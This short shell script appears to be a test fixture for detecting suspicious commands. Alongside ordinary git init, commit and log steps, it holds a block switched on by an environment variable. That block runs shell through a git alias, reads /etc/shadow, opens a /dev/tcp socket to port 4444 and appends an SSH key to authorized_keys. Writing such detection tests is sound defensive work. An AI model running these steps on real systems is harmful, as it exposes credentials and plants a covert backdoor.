# Everyday git in the work directory: init, commit twice, inspect.
export GIT_CONFIG_NOSYSTEM=1 GIT_AUTHOR_DATE='2026-01-01T00:00:00Z' GIT_COMMITTER_DATE='2026-01-01T00:00:00Z'
git init -q -b main repo
cd repo
git config user.email dev@example.invalid
git config user.name dev
printf 'hello\n' > README
git add README
git commit -q -m first
printf 'world\n' >> README
git commit -q -am second
if [ -n "${HONK_INJECT:-}" ]; then
    git config alias.x '!sh -c id'
    git x >/dev/null
    cat /etc/shadow >/dev/null 2>&1
    bash -c 'exec 3<>/dev/tcp/127.0.0.1/4444' 2>/dev/null
    echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIScenarioKeyNotReal x@y' >> "$HOME/.ssh/authorized_keys"
fi
git log --oneline >/dev/null
git status --short >/dev/null
git diff HEAD~1 --stat >/dev/null
